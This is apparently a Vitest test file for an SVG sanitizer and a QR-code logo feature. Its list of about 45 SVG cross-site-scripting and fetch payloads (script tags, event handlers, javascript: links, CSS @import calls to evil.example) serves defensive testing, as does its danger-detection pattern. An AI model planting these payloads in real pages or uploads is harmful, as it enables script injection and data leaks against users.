// @vitest-environment jsdom
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isProblem } from '@/lib/base/problem'
import { initialValues } from '@/lib/kits/fields/initial'
import qrCode from '@/lib/tools/generators/marketing/qr-code'
import { generatorContext, runGenerator, type GeneratorModule } from '@/lib/kits/generator/run'
import { makeArchive } from '@/lib/subjects/code-files/qr-archive'
import type { QrToolValues } from '@/lib/subjects/qr/entries'
import { regionOf } from '@/lib/base/region/regions'
import { safePicture } from '@/lib/base/svg/safe-picture'
import { safeSvg } from '@/lib/base/svg/safe-svg'

const svgSpace = 'http://www.w3.org/2000/svg'
const whole = (inside: string, attributes = '') =>
  `<svg xmlns="${svgSpace}" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 9 9"${attributes}>${inside}</svg>`

function cleaned(document: string): string {
  const made = safeSvg(document)
  if ('fault' in made) throw new Error(made.fault)
  return made.svg
}

/** The browser's own reader, which throws nothing away. */
function parsed(svg: string): Element {
  const document = new DOMParser().parseFromString(svg, 'image/svg+xml')
  expect(document.querySelector('parsererror')).toBeNull()
  return document.documentElement
}

const pixel =
  'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=='

/** What must not be in a picture, looked for in the tree that the browser's reader makes of it. */
function dangersIn(svg: string): string[] {
  const root = parsed(svg)
  return [root, ...root.querySelectorAll('*')].flatMap((element) => [
    ...(element.namespaceURI === svgSpace ? [] : [`namespace of ${element.tagName}`]),
    ...(/^(script|a|animate.*|set|discard|foreignObject|iframe|handler|listener|metadata|audio|video|html)$/i.test(
      element.localName,
    )
      ? [element.tagName]
      : []),
    ...[...element.attributes].flatMap(({ name, localName, value }) => [
      ...(/^on/i.test(localName) ? [name] : []),
      ...(localName === 'href' && !/^#|^data:image\/(png|jpeg|gif|webp);/.test(value) ? [`${name}=${value}`] : []),
      ...(/javascript:|https?:(?!\/\/www\.w3\.org\/)|\/\/evil|file:/i.test(value) && localName !== 'id'
        ? [`${name}=${value}`]
        : []),
    ]),
    ...(element.localName === 'style' &&
    /@import|url\((?!"(?:#|data:(?:image\/(?:png|jpeg|gif|webp)|font)))|\\/i.test(element.textContent ?? '')
      ? [element.textContent ?? '']
      : []),
  ])
}

/** Ways in which SVG files run or fetch something: HTML5 Security Cheatsheet (Cure53), OWASP XSS Filter Evasion, SVG 1.1. */
const attacks = [
  '<script>alert(1)</script>',
  '<script href="https://evil.example/x.js"/>',
  '<script xlink:href="data:text/javascript,alert(1)"/>',
  '<SCRIPT>alert(1)</SCRIPT>',
  `<s:script xmlns:s="${svgSpace}">alert(1)</s:script>`,
  '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>',
  '<script xmlns="http://www.w3.org/1999/xhtml">alert(1)</script>',
  '<g onload="alert(1)"/>',
  '<g ONLOAD="alert(1)"/>',
  `<g xmlns:e="http://www.w3.org/2001/xml-events" e:onload="alert(1)"/>`,
  '<rect width="1" height="1" onclick="alert(1)" onmouseover=\'alert(2)\'/>',
  '<a href="javascript:alert(1)"><rect width="1" height="1"/></a>',
  '<a xlink:href="java&#x73;cript:alert(1)"><rect width="1" height="1"/></a>',
  '<a><set attributeName="href" to="javascript:alert(1)"/></a>',
  '<animate attributeName="xlink:href" values="javascript:alert(1)"/>',
  '<use href="https://evil.example/x.svg#a"/>',
  '<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/>',
  '<image href="https://evil.example/beacon.png"/>',
  '<image xlink:href="//evil.example/beacon.png"/>',
  '<image href="data:image/svg+xml,&lt;svg onload=alert(1)>"/>',
  `<image href="#a" xlink:href="https://evil.example/"/>`,
  `<image xmlns:q="http://www.w3.org/1999/xlink" q:href="https://evil.example/"/>`,
  '<feImage href="https://evil.example/"/>',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@im\\port "https://evil.example/x.css";</style>',
  '<style>@im@import;port "https://evil.example/";</style>',
  '<style>rect{fill:u\\72l(https://evil.example/)}</style>',
  '<style>rect{fill:url( "https://evil.example/#a" )}</style>',
  '<style>rect{fill:u/**/rl(https://evil.example/)}</style>',
  '<style>g{background:image-set("https://evil.example/" 1x)}</style>',
  '<style><![CDATA[@font-face{font-family:x;src:url(https://evil.example/f.woff)}]]></style>',
  '<style>&#x40;import "https://evil.example/"</style>',
  '<style><script>alert(1)</script></style>',
  '<rect fill="url(https://evil.example/#a)"/>',
  '<rect style="fill:url(&quot;https://evil.example/&quot;)"/>',
  '<rect filter="url(data:image/svg+xml;base64,PHN2Zy8+#f)"/>',
  '<g xml:base="https://evil.example/"><use href="#a"/></g>',
  '<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>',
  '<metadata><script>alert(1)</script></metadata>',
  '<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/>',
  '<title>&lt;script>alert(1)&lt;/script></title>',
  '<!-- --><?xml-stylesheet href="https://evil.example/x.css"?>',
  '<text>&lt;script&gt;alert(1)&lt;/script&gt;</text>',
]

describe('an SVG file that somebody brings', () => {
  it.each(attacks)('loses what runs or fetches: %s', (attack) => {
    expect(dangersIn(cleaned(whole(attack)))).toEqual([])
    expect(cleaned(whole(attack))).not.toMatch(/<script|:\/\/evil|javascript:/i)
  })

  it('loses it in any order and depth, and stays well-formed', () => {
    const part = fc.constantFrom(...attacks, '<path d="M0 0h9"/>', 'text', '<defs/>')
    const tree = fc.letrec<{ node: string }>((tie) => ({
      node: fc.oneof(
        { maxDepth: 4 },
        part,
        fc
          .tuple(
            fc.constantFrom('g', 'defs', 'a', 'switch', 'metadata', 'title', 'style'),
            fc.array(tie('node'), { maxLength: 4 }),
          )
          .map(([name, children]) => `<${name}>${children.join('')}</${name}>`),
      ),
    })).node
    fc.assert(
      fc.property(tree, (inside) => {
        const svg = cleaned(whole(inside, ' onload="alert(1)"'))
        expect(dangersIn(svg)).toEqual([])
        // Cleaning what is clean changes nothing.
        expect(cleaned(svg)).toBe(svg)
      }),
      { seed: 20260101, numRuns: 400 },
    )
  })

  it('keeps all that draws, in its order', () => {
    const inside = `<defs><linearGradient id="a"><stop offset="0.5" stop-color="#f00"/></linearGradient>
      <style>.b{fill:url(#a);font-family:'Open Sans'}</style><clipPath id="c"><circle r="4"/></clipPath></defs>
      <g transform="translate(1 2)" clip-path="url(#c)" opacity=".5"><path class="b" d="M0 0h9v9z"/>
      <text x="1" xml:space="preserve">A &amp; B <tspan dy="1">c</tspan></text></g>
      <use xlink:href="#a" x="1"/><image href="${pixel}" width="3"/><polygon points="0,0 1,1 2,0" style="fill: #00f; stroke: none"/>`
    const before = parsed(whole(inside))
    const after = parsed(cleaned(whole(inside)))
    const shown = (root: Element) =>
      [root, ...root.querySelectorAll('*')].map((element) => [
        element.localName,
        [...element.attributes]
          .filter(({ name }) => !name.startsWith('xmlns'))
          .map(({ localName, value }) => `${localName}=${value.replaceAll(/url\("?([^")]*)"?\)/g, 'url($1)')}`)
          .sort(),
        [...element.childNodes]
          .filter(({ nodeType }) => nodeType === 3)
          .map(({ data }: { data?: string } & ChildNode) => data?.replaceAll(/url\("?([^")]*)"?\)/g, 'url($1)')),
      ])
    expect(shown(after)).toEqual(shown(before))
  })

  it('draws what a link surrounds', () => {
    expect(
      parsed(cleaned(whole('<a href="https://example.com/"><rect width="5"/></a>'))).querySelector('g > rect'),
    ).not.toBeNull()
  })

  it.each([
    ['HTML', whole('<foreignObject><p xmlns="http://www.w3.org/1999/xhtml">x</p></foreignObject>'), /foreignObject/],
    ['HTML in another letter case', whole('<g><foreignobject/></g>'), /foreignObject/],
    ['HTML in what is left out', whole('<metadata><foreignObject/></metadata>'), /foreignObject/],
    ['entities of its own', `<!DOCTYPE svg [<!ENTITY a "aaaa">]>${whole('&a;')}`, /entities/],
    ['an unknown entity', whole('&nbsp;'), /&nbsp;/],
    ['a tag that never ends', whole('<g'), /tag/],
    ['an element that is not closed', `<svg xmlns="${svgSpace}"><g></svg>`, /closes/],
    ['an attribute twice', whole('<g id="a" id="b"/>'), /twice/],
    ['an attribute without quotes', whole('<g id=a/>'), /well-formed/],
    ['two documents', whole('') + whole(''), /one element/],
    ['no namespace', '<svg/>', /first element/],
    ['HTML alone', '<html/>', /first element/],
    ['nothing', '', /one element/],
    ['endless depth', whole('<g>'.repeat(100_000)), /deep/],
  ])('is refused with a reason: %s', (_, document, reason) => {
    const made = safeSvg(document)
    expect('fault' in made ? made.fault : made.svg).toMatch(reason)
    if (!/foreignobject/i.test(document)) return
    expect(made).toEqual({ fault: expect.stringMatching(/^holds HTML \(foreignObject\).+PNG$/) })
  })

  it.each([
    '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n',
    '\ufeff',
    '\n',
  ])('may begin as programs write it: %j', (head) => {
    expect(dangersIn(cleaned(head + whole('<rect/>')))).toEqual([])
  })

  it('agrees with the browser on what is well-formed', () => {
    const scraps = fc.constantFrom(
      '<g>',
      '</g>',
      '<g/>',
      '<',
      '>',
      '&',
      '&amp;',
      '&#65;',
      '&#0;',
      ']]',
      '<!-- x -->',
      '<![CDATA[<]]>',
      '<?p?>',
      ' a="1"',
      '<g a="1" b=\'2\'/>',
      '<g a="<"/>',
      'é',
      '<é/>',
    )
    fc.assert(
      fc.property(fc.array(scraps, { maxLength: 8 }), (parts) => {
        const document = whole(parts.join(''))
        const isWellFormed =
          new DOMParser().parseFromString(document, 'image/svg+xml').querySelector('parsererror') === null
        // Nothing that the browser refuses is taken; a stricter reader is no harm.
        if (!isWellFormed) expect(safeSvg(document)).toHaveProperty('fault')
        else if (!/\]\]>|<!--/.test(document)) expect(safeSvg(document)).toHaveProperty('svg')
      }),
      { seed: 20260101, numRuns: 500 },
    )
  })
})

const dataUrl = (type: string, text: string) => `data:image/${type};base64,${btoa(text)}`

describe('a picture that somebody brings', () => {
  it('keeps a PNG to the byte', () => expect(safePicture(pixel)).toBe(pixel))
  it('goes by what a file holds, not by its name', () => {
    expect(safePicture(pixel.replace('png', 'svg+xml'))).toBe(pixel)
    expect(safePicture(dataUrl('png', whole('<script/>')))).toEqual({ fault: expect.stringContaining('PNG') })
  })
  it.each([
    ['text', 'data:text/html;base64,PGI+'],
    ['an address', 'https://example.com/a.png'],
    ['no Base64', 'data:image/svg+xml,<svg/>'],
    ['a mark that ends the attribute', `${pixel}"/><script>`],
    ['SVGZ', dataUrl('svg+xml', '\u001f\u008b\b\u0000')],
    ['bytes', dataUrl('svg+xml', '\u0000\u0001\u0002')],
  ])('is refused with a reason: %s', (_, href) =>
    expect(safePicture(href)).toEqual({ fault: expect.stringMatching(/^must /) }),
  )
  it('keeps letters beyond ASCII', () => {
    const text = whole('<text>Zażółć 🍕</text>')
    const bytes = new TextEncoder().encode(text)
    const made = safePicture(`data:image/svg+xml;base64,${btoa(String.fromCharCode(...bytes))}`)
    expect(
      new TextDecoder().decode(Uint8Array.from(atob(String(made).split(',')[1] ?? ''), (sign) => sign.charCodeAt(0))),
    ).toContain('Zażółć 🍕')
  })
})

describe('a QR code with a logo', () => {
  const module = qrCode as unknown as GeneratorModule
  const given = (logo: string, more: object = {}) => ({ ...initialValues(qrCode.form), logo, ...more })
  const global = regionOf('global')
  const evil = dataUrl('svg+xml', whole('<script>alert(1)</script><rect width="9" height="9" onclick="alert(2)"/>'))
  const html = dataUrl('svg+xml', whole('<foreignObject width="9" height="9"/>'))
  const logoIn = (svg: string) => atob(/href="data:image\/svg\+xml;base64,([^"]+)"/.exec(svg)?.[1] ?? '')

  it('is shown without the logo’s script', () => {
    const built = runGenerator(module, {} as never, given(evil), global)
    if (isProblem(built)) throw new Error(built.message)
    const [image] = built.blocks
    if (image?.kind !== 'image') throw new Error('no picture')
    expect(logoIn(image.svg)).toContain('<rect')
    expect(dangersIn(logoIn(image.svg))).toEqual([])
  })

  it.each(['svg', 'png'])('is saved as %s without the logo’s script', (key) => {
    const file = module.files?.[key] as unknown as {
      make?(...all: unknown[]): string
      picture?(...all: unknown[]): { svg: string }
    }
    const context = generatorContext(undefined, given(evil), global)
    const svg = file.make?.(given(evil), context) ?? file.picture?.(given(evil), context).svg ?? ''
    expect(logoIn(svg)).toContain('<rect')
    expect(dangersIn(logoIn(svg))).toEqual([])
  })

  it('with HTML in it is refused at once, with the reason, on the page and in every file', async () => {
    const refusal = { problem: true, field: 'logo', message: expect.stringContaining('foreignObject') }
    expect(runGenerator(module, {} as never, given(html), global)).toMatchObject(refusal)
    const many = given(html, { amount: 'many', list: 'a\nb', kind: 'text' })
    expect(runGenerator(module, {} as never, many, global)).toMatchObject(refusal)
    expect(await makeArchive(many as unknown as QrToolValues, () => {})).toMatchObject(refusal)
  })
})
